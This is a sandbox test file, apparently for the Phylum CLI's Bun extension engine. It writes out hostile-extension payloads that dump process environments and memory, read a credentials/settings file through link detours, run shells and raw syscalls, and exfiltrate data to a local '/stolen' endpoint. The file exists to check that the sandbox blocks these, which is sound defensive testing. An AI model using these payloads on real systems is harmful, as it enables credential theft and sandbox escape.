/**
 * What a hostile extension tries whose engine has no permissions of its own: the kernel alone is in its way. Each attack runs
 * twice: as a plain Bun script that was handed the token, where it must succeed, or the attack is none; and as an extension,
 * where it must not.
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { Attack } from '../harness/attack.ts'
import { testAttack } from '../harness/attack.ts'
import { createCanary } from '../harness/canary.ts'
import { BUN, EXECUTABLE, RUNTIMES, withHome } from '../harness/phylum.ts'
import { attackFromOutside } from './outside.ts'

/** Everything that the kernel can grant in this engine. */
const EVERYTHING = 'read = true\nwrite = ["./"]\nenv = true'

const ATTACKS: readonly Attack[] = [
  attackFromOutside(
    'E73 has a program run outside of the sandbox that looks for the credential everywhere',
    (program, words) =>
      `(await import('node:child_process')).spawnSync(${program}, ${words}).stdout`,
  ),
  {
    name: 'A1 A2 A4 reads the environment and the arguments of every process',
    permissions: EVERYTHING,
    code: `import { readdirSync, readFileSync } from 'node:fs'
      console.log(JSON.stringify(process.env), JSON.stringify(process.argv))
      for (const pid of [...readdirSync('/proc'), String(process.ppid)]) {
        for (const file of ['environ', 'cmdline', 'task/' + pid + '/environ']) {
          try { console.log(readFileSync('/proc/' + pid + '/' + file, 'latin1')) } catch {}
        }
      }`,
  },
  {
    name: 'A3 reads the memory of every process, its host too',
    permissions: EVERYTHING,
    code: `import { closeSync, openSync, readdirSync, readFileSync, readSync } from 'node:fs'
      for (const pid of [...readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)), process.ppid]) {
        try {
          const memory = openSync('/proc/' + pid + '/mem', 'r')
          for (const line of readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n')) {
            const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw.*\\[(stack|heap)\\]/.exec(line) ?? []
            if (from === undefined) continue
            const bytes = Buffer.alloc(Math.min(parseInt(to, 16) - parseInt(from, 16), 1 << 20))
            const end = parseInt(to, 16) - bytes.length
            try { readSync(memory, bytes, 0, bytes.length, end); console.log(bytes.toString('latin1')) } catch {}
          }
          closeSync(memory)
        } catch {}
      }`,
  },
  {
    name: 'A5 reads the settings file by its path, and through detours',
    permissions: EVERYTHING,
    code: `import { copyFileSync, linkSync, readFileSync, renameSync, symlinkSync } from 'node:fs'
      const read = (path) => { try { console.log(readFileSync(path, 'utf8')) } catch {} }
      for (const path of [SETTINGS, '/proc/self/root' + SETTINGS, '/proc/1/root' + SETTINGS, '//' + SETTINGS]) read(path)
      try { console.log(await Bun.file(SETTINGS).text()) } catch {}
      try { console.log((await import(SETTINGS, { with: { type: 'text' } })).default) } catch {}
      for (const [act, name] of [[copyFileSync, 'copy'], [linkSync, 'hard'], [symlinkSync, 'soft'], [renameSync, 'moved']]) {
        try { act(SETTINGS, name) } catch {}
        read(name)
      }`,
  },
  {
    name: 'A15 starts phylum itself, which knows the credential',
    permissions: `${EVERYTHING}\nrun = true`,
    code: `const { stdout, stderr } = Bun.spawnSync([${
      JSON.stringify(EXECUTABLE)
    }, 'auth', 'token'])
      console.log(String(stdout), String(stderr))`,
  },
  {
    name: 'E68 reads what descriptors were left open for it',
    permissions: EVERYTHING,
    code: `import { readdirSync, readFileSync } from 'node:fs'
      for (let fd = 3; fd < 64; fd++) { try { console.log(fd, readFileSync('/proc/self/fd/' + fd, 'utf8')) } catch {} }
      console.log(JSON.stringify(process.env))`,
  },
  {
    name: 'E70 stops or kills its host',
    permissions: EVERYTHING,
    code:
      `for (const pid of [process.ppid, -1]) { try { if (pid !== 0) process.kill(pid, 'SIGURG'); if (pid > 1) console.log('SIGNALLED') } catch {} }`,
    loot: /SIGNALLED/,
  },
  {
    name: 'E74 starts programs',
    permissions: EVERYTHING,
    code: `import { execSync, spawnSync } from 'node:child_process'
      try { console.log(String(Bun.spawnSync(['/bin/sh', '-c', 'echo STARTED']).stdout)) } catch {}
      try { console.log(execSync('echo STARTED').toString()) } catch {}
      try { console.log(String(spawnSync('/bin/echo', ['STARTED']).stdout)) } catch {}`,
    loot: /STARTED/,
  },
  {
    name: 'D67 makes a program of its own and starts it',
    permissions: EVERYTHING,
    code: `import { chmodSync, copyFileSync, writeFileSync } from 'node:fs'
      for (const directory of ['.', '/tmp', '/dev/shm', process.env.TMPDIR ?? '/tmp']) {
        const script = directory + '/made.sh', copy = directory + '/made'
        try { writeFileSync(script, '#!/bin/sh\\necho STARTED'); chmodSync(script, 0o755); console.log(String(Bun.spawnSync([script]).stdout)) } catch {}
        try { copyFileSync('/bin/echo', copy); chmodSync(copy, 0o755); console.log(String(Bun.spawnSync([copy, 'STARTED']).stdout)) } catch {}
      }`,
    loot: /STARTED/,
  },
  {
    name: 'D67 E72 loads native code, and asks the kernel by itself',
    permissions: EVERYTHING,
    code: `import { dlopen, ptr } from 'bun:ffi'
      const { symbols } = dlopen('libc.so.6', { syscall: { args: ['i64', 'i64', 'i64', 'i64', 'i64', 'i64'], returns: 'i64' } })
      const x64 = process.arch === 'x64'
      const text = (value) => { const bytes = Buffer.from(value + '\\0'); globalThis.kept = bytes; return ptr(bytes) }
      const results = [
        symbols.syscall(x64 ? 41 : 198, 2, 1, 0, 0, 0),
        symbols.syscall(x64 ? 257 : 56, -100, text('/etc/passwd'), 0, 0, 0),
        symbols.syscall(x64 ? 272 : 97, 0, 0, 0, 0, 0),
      ]
      console.log(results.filter((each) => Number(each) >= 0).length === 3 ? 'GOT ALL' : 'nothing')`,
    loot: /GOT ALL/,
  },
  {
    name: 'E79 has a worker do what it may not do itself',
    permissions: '',
    code:
      `const code = 'try { postMessage(require("node:fs").readFileSync("/etc/hostname", "utf8") && "READ") } catch (error) { postMessage(error.message) }'
      const worker = new Worker(URL.createObjectURL(new Blob([code])))
      console.log(await new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data); worker.onerror = ({ message }) => resolve(message) }))
      process.exit()`,
    loot: /READ/,
  },
  {
    name: 'G87 G88 sends data to other hosts',
    permissions: '',
    code: `import net from 'node:net'
      import dgram from 'node:dgram'
      const port = Number(process.argv.at(-1))
      const attempt = async (act) => { try { await act(); console.log('SENT') } catch {} }
      await attempt(() => fetch('http://127.0.0.1:' + port + '/stolen'))
      await attempt(() => import('http://127.0.0.1:' + port + '/stolen.js'))
      await attempt(() => new Promise((resolve, reject) => { const socket = new WebSocket('ws://127.0.0.1:' + port); socket.onopen = resolve; socket.onerror = reject }))
      await attempt(() => new Promise((resolve, reject) => net.connect(port).on('connect', resolve).on('error', reject)))
      await attempt(() => new Promise((resolve, reject) => net.connect('/run/docker.sock').on('connect', resolve).on('error', reject)))
      await attempt(() => new Promise((resolve, reject) => { const socket = dgram.createSocket('udp4'); socket.on('error', reject); socket.send('x', port, '127.0.0.1', (error) => error ? reject(error) : resolve(0)) }))
      process.exit()`,
    loot: /SENT/,
  },
  {
    name: 'G89 asks the name server about its data',
    permissions: '',
    code: `import dns from 'node:dns/promises'
      import { readFileSync } from 'node:fs'
      try { readFileSync('/etc/resolv.conf'); console.log('ASKED') } catch {}
      try { await dns.lookup('localhost'); console.log('ASKED') } catch {}`,
    loot: /ASKED/,
  },
  {
    name: 'G91 listens for others',
    permissions: '',
    code:
      `try { Bun.serve({ port: 0, fetch: () => new Response() }); console.log('LISTENS') } catch {}
      process.exit()`,
    loot: /LISTENS/,
  },
  {
    name: 'D56 changes its own program',
    permissions: EVERYTHING,
    code: `import { renameSync, writeFileSync } from 'node:fs'
      const own = import.meta.dir
      for (const name of ['PhylumExt.toml', 'more.ts']) { try { writeFileSync(own + '/' + name, 'x'); console.log('CHANGED') } catch {} }
      try { renameSync(own, own + '-moved'); console.log('CHANGED') } catch {}`,
    loot: /CHANGED/,
  },
]

for (const attack of ATTACKS) {
  testAttack(attack, { command: [BUN, 'main.ts'], line: 'engine = "bun"' })
}

for (const form of RUNTIMES) {
  test(
    `the engine that the kernel alone holds does not run without the whole wall [${form}]`,
    withHome(async (home) => {
      home.extension('sample', {
        'PhylumExt.toml':
          'name = "sample"\ndescription = "x"\nversion = "1.0.0"\nengine = "bun"\n[api]\nallow = []\n',
        'main.ts': `console.log('ran')`,
      })
      const environment = { PHYLUM_API_KEY: createCanary(), PHYLUM_API_URI: 'http://127.0.0.1:9' }
      const whole = await home.phylum(form, ['ext', 'run', './sample'], { environment })
      assert.deepEqual([whole.code, whole.stdout], [0, 'ran\n'], whole.stderr)
      const none = await home.phylum(form, ['ext', 'run', '-y', '--no-wall', './sample'], {
        environment,
      })
      assert.deepEqual([none.code, none.stdout], [117, ''])
      assert.match(none.stderr, /error\[ERR_SANDBOX_ENGINE\]: .*"bun".*whole wall/)
    }),
  )
}
